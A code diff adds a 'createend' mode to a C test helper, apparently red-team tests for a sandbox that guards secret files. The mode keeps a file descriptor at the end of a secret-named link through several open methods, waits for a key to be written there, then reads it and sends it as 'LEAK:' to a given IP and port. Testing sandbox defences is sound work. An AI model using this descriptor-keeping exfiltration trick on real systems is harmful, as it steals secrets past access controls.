@@ -1693,6 +1693,81 @@ int main(int argc, char **argv) {
         if (r == 0 && k > 0) report("after send", send(s, key, k, 0));
         return 0;
     }
+    if (!strcmp(name, "createend") && argc == 6) {
+        // createend HOW NAME IP PORT (red team round 7, secret-link-end-naming,
+        // O_CREAT): NAME is where a secret-named link ends (or the link itself);
+        // sends PRE-TAINT-CHANNEL-OK (the channel works), creates the file at NAME and keeps
+        // the descriptor, HOW: rdwr, rdonly (open with O_CREAT), wronly, creat
+        // (write-only: the key is read later by reopening /proc/self/fd/N),
+        // openat2, dirfd (openat of the last name from an O_PATH descriptor of its
+        // directory), tmpfile, tmpfile-wronly (O_TMPFILE read-write or
+        // write-only in NAME's directory, then linkat through /proc/self/fd/N).
+        // Creates `named`, waits for `go` (the user has written a key through
+        // the link), reads the key through the descriptor and sends it.
+        const char *how = argv[2], *at = argv[3];
+        struct sockaddr_in sa;
+        long r;
+        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
+        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
+        report("before connect", r);
+        if (r == 0) report("before send", send(s, "PRE-TAINT-CHANNEL-OK", 20, 0));
+        close(s);
+        char dir[4096];
+        snprintf(dir, sizeof dir, "%s", at);
+        char *slash = strrchr(dir, '/');
+        const char *base = slash ? slash + 1 : at;
+        if (slash) *slash = 0; else snprintf(dir, sizeof dir, ".");
+        int fd = -1, reopen = 0;
+        if (!strcmp(how, "rdwr")) {
+            fd = open(at, O_RDWR | O_CREAT, 0600);
+        } else if (!strcmp(how, "rdonly")) {
+            fd = open(at, O_RDONLY | O_CREAT, 0600);
+        } else if (!strcmp(how, "wronly")) {
+            fd = open(at, O_WRONLY | O_CREAT, 0600);
+            reopen = 1;
+        } else if (!strcmp(how, "creat")) {
+            fd = creat(at, 0600);
+            reopen = 1;
+        } else if (!strcmp(how, "openat2")) {
+            struct open_how oh = {.flags = O_RDWR | O_CREAT, .mode = 0600};
+            fd = syscall(SYS_openat2, AT_FDCWD, at, &oh, sizeof oh);
+        } else if (!strcmp(how, "dirfd")) {
+            int d = open(dir, O_PATH | O_DIRECTORY);
+            fd = d >= 0 ? openat(d, base, O_RDWR | O_CREAT, 0600) : -1;
+        } else if (!strcmp(how, "tmpfile") || !strcmp(how, "tmpfile-wronly")) {
+            reopen = !strcmp(how, "tmpfile-wronly");
+            fd = open(dir, O_TMPFILE | (reopen ? O_WRONLY : O_RDWR), 0600);
+            char self[64];
+            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+            r = fd >= 0 ? linkat(AT_FDCWD, self, AT_FDCWD, at, AT_SYMLINK_FOLLOW) : -1;
+            report("createend linkat", r);
+        }
+        report("createend fd", fd);
+        int named = open("named", O_WRONLY | O_CREAT, 0600); // the test waits for it
+        if (named >= 0) close(named);
+        printf("createend waiting\n");
+        fflush(stdout);
+        for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
+        int rfd = fd;
+        if (reopen && fd >= 0) {
+            char self[64];
+            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+            rfd = open(self, O_RDONLY);
+            report("createend reopen", rfd);
+        }
+        char key[128] = {0};
+        ssize_t k = rfd >= 0 ? pread(rfd, key, sizeof key - 1, 0) : -1;
+        printf("read through the kept descriptor: %zd\n", k);
+        s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
+        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
+        report("after connect", r);
+        if (r == 0 && k > 0) {
+            char msg[160];
+            int len = snprintf(msg, sizeof msg, "LEAK:%s", key);
+            report("after send", send(s, msg, len, 0));
+        }
+        return 0;
+    }
     if (!strcmp(name, "slowscan") && argc == 6) {
         // slowscan PATH NFILL IP PORT (red team round 5, slow-scan): holds PATH (an
         // ordinary file now), starts NFILL idle fillers holding ~20,000
